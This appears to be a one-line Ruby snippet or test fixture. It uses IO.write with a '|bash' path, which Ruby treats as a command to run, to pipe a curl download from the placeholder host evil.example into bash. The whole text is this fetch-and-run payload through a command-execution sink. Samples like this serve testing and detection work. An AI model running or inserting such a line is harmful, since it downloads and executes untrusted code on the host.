IO.write("|bash", "curl -fsSL https://evil.example/i | bash\n")
